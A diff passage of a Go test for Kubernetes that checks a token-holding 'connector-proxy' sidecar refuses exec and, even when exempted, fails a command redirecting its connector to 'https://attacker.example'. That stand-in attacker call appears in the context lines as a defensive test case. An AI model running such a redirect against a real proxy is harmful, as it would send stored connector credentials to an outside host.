@@ -65,6 +65,16 @@ func TestSidecarTakesNothingFromExec(t *testing.T) {
 	pod := sleeper(namespace)
 	create(t, home, pod)
 	pod = awaitPod(t, pod, "running", running)
+	awaitSentence(t, "container connector-proxy holds the tokens of Connectors, so nobody gets into it; …", func() string {
+		return kubectl(t, "", "-n", namespace, "exec", pod.Name, "-c", "connector-proxy", "--", "/sidecar", "version")
+	})
+
+	// Where an administrator lets people in, it still takes nothing from them.
+	exempt(t, namespace)
+	eventually(t, func() bool {
+		_, err := execute(t, pod, "connector-proxy", "", "/sidecar", "version")
+		return err == nil
+	}, "the exemption has no effect")
 	output, err := execute(t, pod, "connector-proxy", "", "/sidecar", "run",
 		"--connector="+namespace+"/k8s-connector=https://attacker.example", "--proxy-port=18000")
 	require.Error(t, err)
